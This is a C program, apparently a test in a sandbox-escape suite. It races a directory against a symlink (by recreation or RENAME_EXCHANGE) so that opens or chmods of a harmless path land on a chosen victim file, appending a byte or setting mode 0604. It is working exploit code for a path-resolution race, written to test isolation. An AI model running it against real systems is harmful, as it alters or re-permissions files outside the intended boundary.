/* A race on a path component: the view resolves "S/a/NAME" while "a" is a
 * harmless directory, the kernel then follows "a" as a symlink to VICTIM's
 * directory. S is a new directory in /tmp.
 *
 *   component_race MODE VICTIM [TRIES]   TRIES opens (5000) of S/a/NAME for appending,
 *                                        more (up to 20 times as many) until one wins
 *     symlink   a is made a directory holding NAME (a hard link of the harmless
 *               file S/decoy), emptied, removed, made a symlink to VICTIM's
 *               directory, removed, and again
 *     exchange  a is a directory holding NAME (the harmless file), swapped with
 *               the symlink b (RENAME_EXCHANGE)
 *     chmod     as exchange, but a chmod of S/a/NAME to mode 0604 instead of an
 *               open (a change of metadata, which no open shows)
 *
 * Each open that got a file other than the harmless one appends a byte (a
 * "win"): natively VICTIM, in a view maybe its copy. Exit 0 if some open
 * won; "real" counts the wins that got VICTIM's own device and inode. A
 * chmod wins when VICTIM (as the process sees it) takes the mode.
 */
#include "escape.h"
#include <pthread.h>
#include <linux/fs.h>

static char scratch[] = "/tmp/escape-race-XXXXXX";
static char a[64], b[64], decoy_path[64], in_a[128];
static const char *victim;
static char *victim_dir;
static int exchange, metadata;
static volatile int stop;

static void *flip(void *unused)
{
    (void)unused;
    while (!stop) {
        if (exchange) {
            syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
        } else {
            mkdir(a, 0755);
            link(decoy_path, in_a);
            unlink(in_a);
            rmdir(a);
            symlink(victim_dir, a);
            unlink(a);
        }
    }
    return NULL;
}

static void clean(void)
{
    const char *names[] = {a, b};
    for (int i = 0; i < 2; i++) {
        char inner[128];
        snprintf(inner, sizeof inner, "%s/%s", names[i], name_of(victim));
        if (unlink(names[i])) {  /* a directory */
            unlink(inner);
            rmdir(names[i]);
        }
    }
    unlink(decoy_path);
    rmdir(scratch);
}

int main(int argc, char **argv)
{
    if (argc < 3)
        unsupported("usage: component_race symlink|exchange VICTIM [TRIES]");
    metadata = !strcmp(argv[1], "chmod");
    exchange = metadata || !strcmp(argv[1], "exchange");
    if (!exchange && strcmp(argv[1], "symlink"))
        unsupported("unknown mode");
    victim = argv[2];
    victim_dir = dir_of(victim);
    int tries = argc > 3 ? atoi(argv[3]) : 5000;
    struct stat target, decoy;
    if (stat(victim, &target))
        fail("stat");
    if (!mkdtemp(scratch))
        fail("mkdtemp");
    snprintf(a, sizeof a, "%s/a", scratch);
    snprintf(b, sizeof b, "%s/b", scratch);
    snprintf(in_a, sizeof in_a, "%s/%s", a, name_of(victim));
    snprintf(decoy_path, sizeof decoy_path, "%s/decoy", scratch);
    int fd;
    if ((fd = creat(decoy_path, 0644)) < 0 || fstat(fd, &decoy))
        fail("make the harmless file");
    close(fd);
    if (exchange && (mkdir(a, 0755) || rename(decoy_path, in_a) || symlink(victim_dir, b)))
        fail("make the harmless directory and the symlink");
    pthread_t thread;
    if (pthread_create(&thread, NULL, flip, NULL))
        fail("pthread_create");
    int wins = 0, real = 0;
    for (int i = 0; i < tries || (!wins && i < 20 * tries); i++) {
        if (metadata) {
            struct stat now;
            if (chmod(in_a, 0604) == 0 && !stat(victim, &now) && (now.st_mode & 07777) == 0604) {
                wins++;
                real += now.st_dev == target.st_dev && now.st_ino == target.st_ino;
                break;  /* the victim keeps that mode: one win says it */
            }
            continue;
        }
        int fd = open(in_a, O_WRONLY | O_APPEND);
        if (fd < 0)
            continue;
        struct stat st;
        if (!fstat(fd, &st) && (st.st_dev != decoy.st_dev || st.st_ino != decoy.st_ino) &&
            write(fd, "x", 1) == 1) {
            wins++;
            real += st.st_dev == target.st_dev && st.st_ino == target.st_ino;
        }
        close(fd);
    }
    stop = 1;
    pthread_join(thread, NULL);
    clean();
    printf("wins: %d (real: %d)\n", wins, real);
    if (!wins) {
        fprintf(stderr, "no open reached the victim in %d tries\n", 20 * tries);
        return 1;
    }
    return 0;
}
